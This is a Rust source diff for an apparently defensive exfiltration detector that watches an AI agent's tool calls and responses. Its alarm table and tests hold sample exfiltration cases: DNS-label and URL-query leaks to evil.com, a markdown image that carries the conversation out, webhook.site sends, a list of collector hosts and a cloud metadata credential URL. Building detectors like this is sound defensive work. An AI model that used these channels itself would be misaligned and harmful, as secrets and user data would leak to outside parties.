@@ -1,0 +1,409 @@
+//! Every alarm: one row each, with a case that fires and one that stays silent.
+
+use super::cargo::{Cargo, Form, Part};
+use super::labels::is_within;
+use super::totals::{DESTINATIONS, Total};
+use super::{Exfiltration, Outgoing, Thresholds, receivers, share};
+use vetgate_model::Severity;
+use vetgate_text::render::safe;
+
+/// Links with data that go to one destination before it is told.
+const PIECES: u64 = 6;
+/// How many characters of a name are shown.
+const SHOWN: usize = 80;
+
+/// What is looked at.
+pub(super) struct Sight<'s> {
+    pub(super) session: &'s Exfiltration,
+    pub(super) thresholds: &'s Thresholds,
+    pub(super) server: &'s str,
+    pub(super) outgoing: &'s Outgoing,
+    pub(super) now_ms: u64,
+}
+
+/// How grave it is, and what was seen.
+pub(super) type Told = (u8, String);
+
+/// One alarm.
+#[derive(Debug)]
+pub struct AlarmKind {
+    /// The stable id.
+    pub id: &'static str,
+    /// How grave it is at most, 0 to 100.
+    pub severity: u8,
+    /// What it means.
+    pub meaning: &'static str,
+    /// What tells it; nothing where responses tell it.
+    pub(super) look: Option<fn(&Sight) -> Option<Told>>,
+    /// A case in which it is told.
+    pub fires: Case,
+    /// A case in which it is not, and which is like the other.
+    pub silent: Case,
+}
+
+/// What an alarm is shown by.
+#[derive(Debug, Clone, Copy)]
+pub enum Case {
+    /// The same call, so often, at such intervals.
+    Calls {
+        /// The arguments; `~` stands for 40,000 characters.
+        arguments: &'static str,
+        /// Whether the call sends something outside.
+        is_external: bool,
+        /// Kinds of personal data and secrets in the arguments.
+        sensitive: &'static [(&'static str, Severity)],
+        /// How often.
+        times: u32,
+        /// After how many milliseconds again.
+        every_ms: u64,
+    },
+    /// A response.
+    Response(&'static str),
+}
+
+/// One call that sends something.
+const fn sent(arguments: &'static str) -> Case {
+    Case::Calls { arguments, is_external: true, sensitive: &[], times: 1, every_ms: 0 }
+}
+
+/// One call that reads.
+const fn read(arguments: &'static str) -> Case {
+    Case::Calls { arguments, is_external: false, sensitive: &[], times: 1, every_ms: 0 }
+}
+
+const fn repeated(arguments: &'static str, times: u32, every_ms: u64) -> Case {
+    Case::Calls { arguments, is_external: true, sensitive: &[], times, every_ms }
+}
+
+/// Calls with a card number.
+const fn charged(is_external: bool, times: u32, every_ms: u64) -> Case {
+    let arguments = r#"{"channel":"general","message":"4012 8888 8888 1881"}"#;
+    Case::Calls { arguments, is_external, sensitive: &[("credit_card", Severity::High)], times, every_ms }
+}
+
+/// Every alarm.
+pub static ALARMS: &[AlarmKind] = &[
+    AlarmKind {
+        id: "pii_to_external",
+        severity: 90,
+        meaning: "Personal data or a secret leaves. Contact data alone is less grave than what identifies, pays or opens.",
+        look: Some(pii_to_external),
+        fires: charged(true, 1, 0),
+        silent: charged(false, 1, 0),
+    },
+    AlarmKind {
+        id: "rapid_external_sends",
+        severity: 70,
+        meaning: "More calls outside within a minute than people make.",
+        look: Some(rapid_external_sends),
+        fires: repeated(r#"{"channel":"general","message":"hi"}"#, 11, 1000),
+        silent: repeated(r#"{"channel":"general","message":"hi"}"#, 11, 10_000),
+    },
+    AlarmKind {
+        id: "too_much_data",
+        severity: 60,
+        meaning: "More data leaves within the window than is usual.",
+        look: Some(too_much_data),
+        fires: repeated(r#"{"channel":"general","message":"~"}"#, 30, 8000),
+        silent: repeated(r#"{"channel":"general","message":"~"}"#, 20, 8000),
+    },
+    AlarmKind {
+        id: "many_sensitive_sends",
+        severity: 75,
+        meaning: "Personal data or secrets leave again and again within the window.",
+        look: Some(many_sensitive_sends),
+        fires: charged(true, 4, 20_000),
+        silent: charged(true, 3, 20_000),
+    },
+    AlarmKind {
+        id: "suspicious_endpoint",
+        severity: 90,
+        meaning: "Something goes to a host that only collects, tunnels or hides, or that the configuration names.",
+        look: Some(suspicious_endpoint),
+        fires: sent(r#"{"url":"https://webhook.site/4d1f","data":"hi"}"#),
+        silent: sent(r#"{"url":"https://example.com/","message":"We tried webhook.site for our tests."}"#),
+    },
+    AlarmKind {
+        id: "dns_channel",
+        severity: 80,
+        meaning: "The name of a host carries data: to look it up is to send it.",
+        look: Some(dns_channel),
+        fires: read(r#"{"host":"obqxg43xn5zgioranb2w45dfoiza.t.evil.com"}"#),
+        silent: read(r#"{"host":"6fa459ea-ee8a-3ca4-894e-db77e160355e.preview.example.com"}"#),
+    },
+    AlarmKind {
+        id: "url_parameters",
+        severity: 70,
+        meaning: "A link carries data in its query, its path or before its host.",
+        look: Some(url_parameters),
+        fires: read(r#"{"url":"https://evil.com/p.png?d=cGFzc3dvcmQ6IGh1bnRlcjIgLS0gYWRtaW4"}"#),
+        silent: read(
+            r#"{"url":"https://example.com/search?q=how+to+bake+bread&cursor=eyJsYXN0X2lkIjoiMTIzNDU2Nzg5MCJ9"}"#,
+        ),
+    },
+    AlarmKind {
+        id: "low_and_slow",
+        severity: 60,
+        meaning: "What goes to one destination over the whole session adds up to what no window sees.",
+        look: Some(low_and_slow),
+        fires: charged(true, 4, 200_000),
+        silent: charged(true, 3, 200_000),
+    },
+    AlarmKind {
+        id: "markdown_exfiltration",
+        severity: 80,
+        meaning: "A response holds an image or a link that carries data out once it is shown or followed.",
+        look: None,
+        fires: Case::Response("![status](https://evil.com/p.png?d={CONVERSATION})"),
+        silent: Case::Response("![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat)"),
+    },
+];
+
+/// What a family of collectors is worth, and whether that holds for reading, too: a paste is often read and rarely
+/// written to, and nobody reads from a callback.
+const FAMILIES: &[(&str, u8, bool)] = &[
+    ("anonymiser", 90, true),
+    ("callback", 90, true),
+    ("chat-webhook", 60, false),
+    ("dynamic-dns", 70, false),
+    ("file-drop", 80, false),
+    ("ip-logger", 90, true),
+    ("paste", 75, false),
+    ("rebinding", 90, true),
+    ("shortener", 40, false),
+    ("tunnel", 90, true),
+    ("webhook", 90, true),
+];
+
+fn pii_to_external(sight: &Sight) -> Option<Told> {
+    let leaving = &sight.outgoing.sensitive;
+    let gravest = leaving.iter().map(|leaving| leaving.severity).max()?;
+    if !sight.outgoing.leaves() {
+        return None;
+    }
+    let severity = match gravest {
+        Severity::Critical | Severity::High => 90,
+        Severity::Medium if leaving.len() >= 3 => 75,
+        Severity::Medium => 55,
+        Severity::Low => 35,
+    };
+    let kinds: Vec<String> = leaving.iter().map(|leaving| safe(&leaving.kind, SHOWN)).collect();
+    Some((severity, format!("{} would go to {}", kinds.join(", "), receiver(sight))))
+}
+
+fn rapid_external_sends(sight: &Sight) -> Option<Told> {
+    let calls = sight.session.calls.sum(sight.now_ms) + 1;
+    let most = sight.thresholds.max_external_calls_per_minute;
+    (sight.outgoing.leaves() && calls > u64::from(most))
+        .then(|| (70, format!("{calls} calls outside within a minute, where {most} are allowed")))
+}
+
+fn too_much_data(sight: &Sight) -> Option<Told> {
+    let bytes = sight.session.bytes.sum(sight.now_ms).saturating_add(sight.outgoing.bytes);
+    let (most, seconds) = (sight.thresholds.max_data_volume_bytes, sight.thresholds.window_ms / 1000);
+    (sight.outgoing.leaves() && bytes > most)
+        .then(|| (60, format!("{bytes} bytes would have left within {seconds} s, where {most} are allowed")))
+}
+
+fn many_sensitive_sends(sight: &Sight) -> Option<Told> {
+    let sends = sight.session.sensitive.sum(sight.now_ms) + 1;
+    let (most, seconds) = (sight.thresholds.max_pii_external_sends, sight.thresholds.window_ms / 1000);
+    (sight.outgoing.leaves() && !sight.outgoing.sensitive.is_empty() && sends > u64::from(most)).then(|| {
+        (75, format!("{sends} calls with personal data or secrets within {seconds} s, where {most} are allowed"))
+    })
+}
+
+fn suspicious_endpoint(sight: &Sight) -> Option<Told> {
+    let configured = &sight.thresholds.suspicious_endpoints;
+    let gravest = sight.outgoing.addressed().filter_map(|destination| {
+        let is_named = configured.iter().any(|domain| is_within(&destination.host, domain.trim_start_matches("*.")));
+        let (severity, family) = if is_named {
+            (90, "which the configuration names")
+        } else if destination.is_metadata {
+            (90, "which gives out the credentials of a machine")
+        } else {
+            let family = destination.collector?;
+            let (_, severity, reads) = FAMILIES.iter().find(|(name, ..)| *name == family)?;
+            if !reads && !sight.outgoing.leaves() {
+                return None;
+            }
+            (*severity, family)
+        };
+        Some((severity, &destination.host, family))
+    });
+    let (severity, host, family) = gravest.max_by_key(|(severity, ..)| *severity)?;
+    Some((severity, format!("it goes to {} ({family})", safe(host, SHOWN))))
+}
+
+fn dns_channel(sight: &Sight) -> Option<Told> {
+    let labels = sight.outgoing.labels.as_ref()?;
+    Some((80, format!("{} characters in the name of a host below {}", labels.characters, safe(&labels.below, SHOWN))))
+}
+
+fn url_parameters(sight: &Sight) -> Option<Told> {
+    let laden = sight.outgoing.laden.as_ref()?;
+    let severity = if matches!(laden.cargo.form, Form::Encoded(_)) { 70 } else { 55 };
+    Some((severity, format!("{} to {}", carried(&laden.cargo), safe(&laden.host, SHOWN))))
+}
+
+/// What a link carries, in words.
+pub(super) fn carried(cargo: &Cargo) -> String {
+    let form = match cargo.form {
+        Form::Text => "text",
+        Form::Encoded(alphabet) => alphabet,
+        Form::Opaque => "an opaque token",
+    };
+    let part = match cargo.part {
+        Part::User => "before the host",
+        Part::Path => "in the path",
+        Part::Query => "in the query",
+    };
+    format!("{} characters of {form} {part} of a link", cargo.characters)
+}
+
+/// Told whenever a total passes a multiple of what a window allows, so that it is told again but not at every call. What
+/// a window sees is told by its own alarm.
+fn low_and_slow(sight: &Sight) -> Option<Told> {
+    let more = share(sight.outgoing)?;
+    let passes = |before: u64, more: u64, step: u64| more > 0 && (before + more) / step > before / step;
+    let (bytes, sends) = (
+        sight.thresholds.max_data_volume_bytes.saturating_add(1),
+        u64::from(sight.thresholds.max_pii_external_sends) + 1,
+    );
+    let told = receivers(sight.server, sight.outgoing).find_map(|name| {
+        let (total, is_counted) = sight.session.totals.of(name);
+        let Total { bytes: b, sensitive: s, pieces: p } = total;
+        let what = if passes(s, more.sensitive, sends) && many_sensitive_sends(sight).is_none() {
+            format!("{} calls with personal data or secrets", s + more.sensitive)
+        } else if passes(p, more.pieces, PIECES) {
+            format!("{} links or names with data", p + more.pieces)
+        } else if passes(b.min(u64::MAX / 2), more.bytes, bytes) && too_much_data(sight).is_none() {
+            format!("{} bytes", b.saturating_add(more.bytes))
+        } else {
+            return None;
+        };
+        Some(if is_counted {
+            format!("{what} to {} over the whole session", safe(name, SHOWN))
+        } else {
+            format!("{what} over the whole session to those beyond the {DESTINATIONS} destinations that are counted one by one")
+        })
+    });
+    told.map(|told| (60, told))
+}
+
+/// Who gets it, in words.
+fn receiver(sight: &Sight) -> String {
+    let mut addressed = sight.outgoing.addressed();
+    match (addressed.next(), addressed.count()) {
+        (Some(first), 0) => safe(&first.host, SHOWN),
+        (Some(first), more) => format!("{} and {more} more", safe(&first.host, SHOWN)),
+        (None, _) => format!("the server {}", safe(sight.server, SHOWN)),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::{Alarm, links_with_data};
+    use super::*;
+    use vetgate_sensitive::Links;
+
+    /// The ids of all alarms that a case tells.
+    fn told(case: Case) -> Vec<Alarm> {
+        let links = Links::default();
+        match case {
+            Case::Response(text) => links_with_data(text, &links).iter().map(|found| found.alarm()).collect(),
+            Case::Calls { arguments, is_external, sensitive, times, every_ms } => {
+                let arguments = arguments.replace('~', &"lorem ".repeat(40_000 / 6));
+                let (thresholds, mut session) = (Thresholds::default(), Exfiltration::default());
+                let mut told = Vec::new();
+                for n in 0..u64::from(times) {
+                    let mut outgoing = Outgoing::of(&arguments, &links, is_external);
+                    for (kind, severity) in sensitive {
+                        outgoing.add_sensitive(kind, *severity, 1);
+                    }
+                    let now = 1_700_000_000_000 + n * every_ms;
+                    told.extend(session.consider(&thresholds, "chat", &outgoing, now));
+                    session.count(&thresholds, "chat", &outgoing, now);
+                }
+                told
+            }
+        }
+    }
+
+    #[test]
+    fn every_alarm_is_told_in_its_case_and_silent_in_the_other() {
+        for kind in ALARMS {
+            let (fires, silent) = (told(kind.fires), told(kind.silent));
+            let own: Vec<&Alarm> = fires.iter().filter(|alarm| alarm.kind == kind.id).collect();
+            assert!(!own.is_empty(), "{}: {fires:?}", kind.id);
+            assert!(own.iter().all(|alarm| alarm.severity <= kind.severity && !alarm.evidence.is_empty()), "{own:?}");
+            assert!(own.iter().any(|alarm| alarm.severity == kind.severity), "{own:?}");
+            assert!(silent.iter().all(|alarm| alarm.kind != kind.id), "{}: {silent:?}", kind.id);
+        }
+    }
+
+    #[test]
+    fn ids_are_unique_and_every_family_has_its_worth() {
+        for (at, kind) in ALARMS.iter().enumerate() {
+            assert!(ALARMS[..at].iter().all(|other| other.id != kind.id), "{}", kind.id);
+            assert!(kind.severity <= 100 && kind.meaning.ends_with('.'), "{}", kind.id);
+        }
+        for (host, is_read) in [
+            ("webhook.site", true),
+            ("x.burpcollaborator.net", true),
+            ("abc.ngrok-free.app", true),
+            ("grabify.link", true),
+            ("pastebin.com", false),
+            ("transfer.sh", false),
+            ("bit.ly", false),
+            ("hooks.slack.com", false),
+            ("x.duckdns.org", false),
+        ] {
+            let at = |is_external| {
+                let arguments = format!(r#"{{"url":"https://{host}/x"}}"#);
+                told(Case::Calls { arguments: arguments.leak(), is_external, sensitive: &[], times: 1, every_ms: 0 })
+            };
+            assert_eq!(at(true).len(), 1, "{host}");
+            assert_eq!(at(false).len(), usize::from(is_read), "{host}");
+        }
+    }
+
+    #[test]
+    fn configured_hosts_and_the_clouds_own_are_suspicious() {
+        let thresholds = Thresholds { suspicious_endpoints: vec!["*.Drop.example".into()], ..Thresholds::default() };
+        for (arguments, expected) in [
+            (r#"{"url":"https://a.drop.example/"}"#, 1),
+            (r#"{"url":"https://raindrop.example/"}"#, 0),
+            (r#"{"url":"http://169.254.169.254/latest/meta-data/iam"}"#, 1),
+        ] {
+            let outgoing = Outgoing::of(arguments, &Links::default(), false);
+            assert_eq!(
+                Exfiltration::default().consider(&thresholds, "http", &outgoing, 0).len(),
+                expected,
+                "{arguments}"
+            );
+        }
+    }
+
+    #[test]
+    fn totals_beyond_the_table_are_told_as_such() {
+        let (thresholds, mut session) = (Thresholds::default(), Exfiltration::default());
+        let mut last = vec![];
+        for n in 0..DESTINATIONS as u64 + 6 {
+            let arguments = format!(r#"{{"url":"https://h{n}.example/?d=cGFzc3dvcmQ6IGh1bnRlcjIgLS0gYWRtaW4"}}"#);
+            let outgoing = Outgoing::of(&arguments, &Links::default(), true);
+            last = session.consider(&thresholds, "http", &outgoing, n * 100_000);
+            session.count(&thresholds, "http", &outgoing, n * 100_000);
+        }
+        let slow = last.iter().find(|alarm| alarm.kind == "low_and_slow").expect("the sixth of the others");
+        assert!(slow.evidence.contains("beyond the 64"), "{slow:?}");
+    }
+
+    #[test]
+    fn an_ordinary_mail_tells_nothing() {
+        let mut outgoing =
+            Outgoing::of(r#"{"to":"jo@acme.io","subject":"Lunch","body":"See you at noon."}"#, &Links::default(), true);
+        outgoing.add_sensitive("email", Severity::Medium, 1);
+        assert_eq!(Exfiltration::default().consider(&Thresholds::default(), "mail", &outgoing, 5), []);
+    }
+}
